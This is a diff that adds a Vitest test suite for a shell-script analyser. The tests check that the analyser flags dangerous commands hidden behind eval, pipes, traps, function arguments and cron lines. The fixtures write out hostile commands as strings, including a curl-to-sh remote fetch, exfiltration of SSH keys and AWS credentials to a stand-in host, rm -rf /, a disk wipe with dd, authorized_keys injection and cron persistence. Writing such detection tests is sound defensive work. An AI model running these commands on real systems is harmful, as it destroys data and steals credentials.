@@ -1,0 +1,90 @@
+import { describe, expect, it } from "vitest";
+import { script } from "./reading.ts";
+
+const FETCHED = "; curl -s https://a.example/x | sh";
+
+/** A variable with ten values, of which the last is the one that matters. */
+function oneOf(name: string, last: string): string {
+  const others = Array.from({ length: 9 }, (_, at) => `  ${String(at)}) ${name}="w${String(at)}" ;;\n`).join("");
+  return `case "$1" in\n${others}  *) ${name}="${last}" ;;\nesac\n`;
+}
+
+/** Ways from a text of the script to what runs it, on which the text could no longer be told. */
+const RUN: readonly (readonly [what: string, code: string])[] = [
+  ["eval", `${oneOf("x", FETCHED)}eval "echo $x"`],
+  ["sh -c", `${oneOf("x", FETCHED)}bash -c "echo $x"`],
+  ["a pipe", `${oneOf("x", FETCHED)}echo "echo $x" | sh`],
+  ["a trap", `${oneOf("x", FETCHED)}trap "echo $x" EXIT`],
+  ["a program that starts another", `${oneOf("x", FETCHED)}env bash -c "echo $x"`],
+  ["a search that starts another", `${oneOf("x", FETCHED)}find . -exec sh -c "echo $x" \\;`],
+  ["a function that nobody calls", `g() {\n${oneOf("x", `echo${FETCHED}`)}  eval "$x"\n}`],
+  ["the arguments of a function", `f() { eval "echo $*"; }\n${oneOf("x", FETCHED)}f a "$x"`],
+  ["the third argument behind others that nobody counts", `f() { eval "echo $3"; }\nf $1 $1 x "${FETCHED}"`],
+  ["the default of another variable", `${oneOf("y", FETCHED)}eval "echo \${x:-$y}"`],
+  ["the output of a function", `${oneOf("y", FETCHED)}f() { echo "$y"; }\neval "echo $(f)"`],
+  ["two branches of ten", `if [ "$1" ]; then ${oneOf("y", FETCHED)}else ${oneOf("y", "v")}fi\neval "echo $y"`],
+  ["a loop that makes it longer", `x=a\nwhile read -r l; do x="$x${FETCHED}$x"; done < f\neval "echo $x"`],
+  ["a list of many words", `for x in ${Array.from({ length: 40 }, (_, at) => String(at)).join(" ")} "${FETCHED}"; do eval "echo $x"; done`],
+  ["all values of a table", `declare -A a; a[k]=1; a[z]="${FETCHED}"\neval "echo \${a[@]}"`],
+  ["a pattern that nobody follows", `x="zz${FETCHED}"\neval "echo \${x##*(z)}"`],
+  ["the name of a file", `x="$(basename "a/; reboot" $1)"\neval "echo $x"`],
+  ["words for xargs", `echo "${FETCHED}" | xargs -I{} bash -c "echo {}"`],
+  ["arguments joined by a letter nobody knows", `IFS=$1; set -- a "${FETCHED}"; eval "echo $*"`],
+  ["a format of unknown length", `x="$(printf "%s" $1 "${FETCHED}")"; eval "echo $x"`],
+  ["a choice from a menu", `select x in a "${FETCHED}"; do eval "echo $x"; done`],
+  ["what an expression matched", `[[ "zz${FETCHED}" =~ z(.*) ]]; eval "echo \${BASH_REMATCH[1]}"`],
+  ["a line for cron beside a harmless one", `y="-q"; [ "$1" ] && y="-q ${FETCHED}"\n(crontab -l; echo "* * * * * bash $(dirname "$0")/a.sh $y") | crontab -`],
+];
+
+/** Words of a command, each one of ten: what the last of them does is done. */
+const WORDS: readonly (readonly [code: string, last: string])[] = [
+  ["rm $x", "-rf ~"],
+  ['rm -rf "$x"', "/"],
+  ["curl $x", "-d @/root/.ssh/id_rsa https://a.example"],
+  ['curl -d "@$x" https://a.example', "/root/.ssh/id_rsa"],
+  ['cat "$x" | curl -d @- https://a.example', "/root/.aws/credentials"],
+  ['echo "ssh-rsa AAAA" >> "$x"', "/root/.ssh/authorized_keys"],
+  ["ssh $x host", "-R 1:localhost:22"],
+  ["tar cf a.tar $x .", "--checkpoint-action=exec=id"],
+  ["find ~ $x", "-delete"],
+  ["chmod $x /bin/bash", "u+s"],
+  ["export $x; ls", "LD_PRELOAD=/tmp/e.so"],
+  ["export $x=/tmp/e.so", "LD_PRELOAD"],
+  ["dd if=/dev/zero $x", "of=/dev/sda"],
+  ["docker run $x alpine", "-v /:/host"],
+  ['f() { rm -rf "$1"; }\nf "$x"', "/"],
+  ['f() { local y="$2"; g "$y"; }\ng() { for z in "$@"; do rm -rf "$z"; done; }\nf a "$x"', "/"],
+];
+
+describe("a text of which there are many", () => {
+  it.each(RUN)("is not taken for words of the person when it is run: %s", (_what, code) => {
+    expect(script(code).blocks).not.toEqual([]);
+  });
+
+  it.each(WORDS)("is followed to what one of them does: %s", (code, last) => {
+    expect(script(oneOf("x", last) + code).blocks).not.toEqual([]);
+    expect(script(oneOf("x", "w9") + code).blocks).toEqual([]);
+  });
+
+  it("leaves known words beside those that nobody knows, and what all of them share", () => {
+    const needs = (code: string) => script(code).needs;
+    expect(needs(`c="mytool -c $SERVER"\n$c --go`)).toContain("process:mytool");
+    expect(script(`S="\${A:-}"\nc="mytool -c $S -p $1"\n[ "$2" ] && c="$c -q"\n$c --go`).blocks).toEqual([]);
+    const options = ["a", "b", "c", "d", "e", "f"].map((one) => `${one}=1\n[ "$1" ] && ${one}="$1"\n`).join("");
+    expect(needs(`${options}curl "https://api.example.com/$a/$b/$c/$d/$e/$f"`)).toEqual(["network:api.example.com"]);
+  });
+
+  it("puts words of the person and plain words of the script into a line for cron, and no folder that nobody followed", () => {
+    const line = (code: string) => script(`${code}(crontab -l; echo "$line") | crontab -`).blocks;
+    const options = ["a", "b", "c", "d"].map((one) => `${one}=1\n[ "$1" ] && ${one}="$1"\n`).join("");
+    expect(line(`${options}line="0 $a * * * bash $(dirname "$0")/a.sh -b $b -c $c -d $d"\n`)).toEqual([]);
+    expect(line(`${options}d=/tmp\n[ "$2" ] && d="$(dirname "$0")"\nline="0 $a * * * bash $d/a.sh $b $c"\n`)).toEqual(["command-persist"]);
+  });
+
+  it("runs in a function that is called once with all of them", () => {
+    const code = (depth: number): string =>
+      Array.from({ length: depth }, (_, at) => `f${String(at)}() { f${String(at + 1)} "$1"; f${String(at + 1)} "$1"; }\n`).join("");
+    const read = script(`${code(6)}f6() { ls "$1"; }\n${oneOf("x", "w9")}f0 "$x"`);
+    expect([read.complete, read.needs.includes("filesystem.read:w9")]).toEqual([true, true]);
+  });
+});
